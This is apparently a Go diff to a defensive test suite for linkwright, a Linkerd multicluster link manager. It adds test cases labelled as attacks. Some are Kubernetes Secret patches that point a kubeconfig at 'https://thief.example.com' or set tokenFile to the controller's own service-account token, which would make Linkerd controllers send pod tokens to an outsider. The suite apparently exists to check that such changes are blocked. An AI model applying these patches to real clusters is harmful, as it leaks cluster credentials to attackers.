@@ -11,8 +11,14 @@ import (
 )
 
 // theirs is where a thief of linkwright's account would have Linkerd's controllers send the tokens of their own pods.
-func theirs() string {
-	return string(linkerd.Kubeconfig(linkerd.Endpoint{Server: "https://thief.example.com", CA: "ca"}, object.NewSecret([]byte("token"))))
+func theirs() string { return kubeconfig("https://thief.example.com", "ca", "token") }
+
+func kubeconfig(server, ca, token string) string {
+	raw, err := linkerd.Kubeconfig(linkerd.Endpoint{Server: server, CA: ca}, object.NewSecret([]byte(token)))
+	if err != nil {
+		panic(err) // it is plain
+	}
+	return string(raw)
 }
 
 // kubeconfigAttacks are credentials of a link by which Linkerd's controllers would log in with something of their own pods: that of the
@@ -44,6 +50,10 @@ func kubeconfigAttacks() (out []attack) {
 			`{stringData: {kubeconfig: "users: [{name: a, user: {tokenFile: ` + own + `}}]"}}`,
 		},
 		attack{
+			"have a controller send its own token, in place of a good kubeconfig", resource("", "secrets"), testbed.Multicluster, "cluster-credentials-good", "", "patch",
+			`{stringData: {kubeconfig: "users: [{name: a, user: {tokenFile: ` + own + `}}]"}}`,
+		},
+		attack{
 			"have the control plane send its own token, by a new link", resource("", "secrets"), testbed.ControlPlane, "cluster-credentials-thief", "", "apply",
 			`{apiVersion: v1, kind: Secret, metadata: {name: cluster-credentials-thief}, type: ` + linkerd.KubeconfigSecretType + `, stringData: {kubeconfig: "users: [{name: a, user: {tokenFile: ` + own + `}}]"}}`,
 		},
@@ -62,8 +72,11 @@ func credential(aim, field, kubeconfig string) attack {
 // credentials are what linkwright writes, also with a bundle of many certificates.
 func credentials() (out []attack) {
 	for _, ca := range []string{"", "ca", strings.Repeat("c", 24<<10)} {
-		raw := linkerd.Kubeconfig(linkerd.Endpoint{Server: "https://east.example.com:6443", CA: ca}, object.NewSecret([]byte(strings.Repeat("t", 1200))))
-		out = append(out, credential("write a kubeconfig", "data", base64.StdEncoding.EncodeToString(raw)))
+		raw := kubeconfig("https://east.example.com:6443", ca, strings.Repeat("t", 1200))
+		out = append(out, credential("write a kubeconfig", "data", base64.StdEncoding.EncodeToString([]byte(raw))))
 	}
-	return out
+	return append(out, attack{ // as adopt and release do
+		"mark a Secret that linkerd multicluster link-gen made", resource("", "secrets"), testbed.Multicluster, "cluster-credentials-made", "", "patch",
+		`{metadata: {labels: {linkwright.dev/owner: linkwright}}}`,
+	})
 }
